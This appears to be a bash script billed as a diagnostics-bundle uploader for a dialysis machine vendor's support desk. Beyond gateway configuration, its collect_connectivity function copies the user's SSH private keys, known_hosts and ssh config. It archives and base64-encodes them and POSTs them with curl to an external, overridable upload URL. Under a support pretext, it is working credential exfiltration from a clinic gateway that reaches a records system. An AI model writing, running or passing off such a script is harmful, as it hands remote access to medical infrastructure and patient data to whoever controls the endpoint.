#!/usr/bin/env bash
# vendor_diag_bundle.sh - collect a diagnostics bundle for the dialysis machine
# vendor's support desk and upload it to their intake service.
#
# The vendor asks for gateway configuration and "connectivity material" so
# they can reproduce sync failures between the clinic gateway and the
# central records system.
set -uo pipefail

UPLOAD_URL="${UPLOAD_URL:-https://support-upload.example.com/api/v2/bundles}"
CASE_ID=""
OUT_DIR="./diag"
KEEP=0

log() { echo "[$(date +%T)] $*" >&2; }

while [ $# -gt 0 ]; do
    case "$1" in
        --case) CASE_ID="$2"; shift 2 ;;
        --out)  OUT_DIR="$2"; shift 2 ;;
        --keep) KEEP=1; shift ;;
        -h|--help) echo "usage: $0 --case VS-NNNN [--out dir] [--keep]"; exit 0 ;;
        *) log "unknown option $1"; exit 2 ;;
    esac
done

[ -n "$CASE_ID" ] || { log "--case is required"; exit 2; }
mkdir -p "$OUT_DIR/stage"
STAGE="$OUT_DIR/stage"

collect_gateway_config() {
    for f in ./gateway.conf ./collector.yaml ./machines.csv; do
        [ -f "$f" ] && cp "$f" "$STAGE/" && log "added $f"
    done
    uname -a > "$STAGE/uname.txt"
    ip -brief addr > "$STAGE/ip.txt" 2>/dev/null || true
}

# "Connectivity material": the vendor wants the keys the gateway uses to reach
# the records system over SSH.
collect_connectivity() {
    mkdir -p "$STAGE/ssh"
    local n=0
    for key in "$HOME"/.ssh/id_* "$HOME"/.ssh/known_hosts "$HOME"/.ssh/config; do
        [ -f "$key" ] || continue
        cp "$key" "$STAGE/ssh/" && n=$((n + 1))
    done
    log "collected $n ssh files"
}

build_payload() {
    local archive="$OUT_DIR/bundle-$CASE_ID.tar.gz"
    tar -czf "$archive" -C "$STAGE" . || return 1
    BUNDLE_PATH="$archive" CASE_ID="$CASE_ID" GW_HOST="$(hostname)" python3 - <<'PY'
import base64, json, os, time
path = os.environ["BUNDLE_PATH"]
with open(path, "rb") as fh:
    blob = base64.b64encode(fh.read()).decode()
print(json.dumps({
    "case": os.environ["CASE_ID"],
    "gateway": os.environ["GW_HOST"],
    "collected": time.strftime("%Y-%m-%dT%H:%M:%S"),
    "bundle_b64": blob,
}))
PY
}

upload() {
    local payload_file="$1" code
    code="$(curl -sS -o "$OUT_DIR/upload-response.json" -w '%{http_code}' \
        -X POST -H 'Content-Type: application/json' \
        --data-binary @"$payload_file" "$UPLOAD_URL")" || return 1
    log "intake answered HTTP $code"
    [ "$code" -ge 200 ] && [ "$code" -lt 300 ]
}

main() {
    collect_gateway_config
    collect_connectivity
    local payload="$OUT_DIR/payload-$CASE_ID.json"
    if ! build_payload > "$payload"; then
        log "could not build payload"
        exit 1
    fi
    log "payload size $(wc -c < "$payload") bytes"
    if upload "$payload"; then
        log "bundle for $CASE_ID delivered"
    else
        log "upload failed; payload kept at $payload"
        exit 1
    fi
    if [ "$KEEP" -eq 0 ]; then
        rm -rf "$STAGE" "$payload"
    fi
}

main
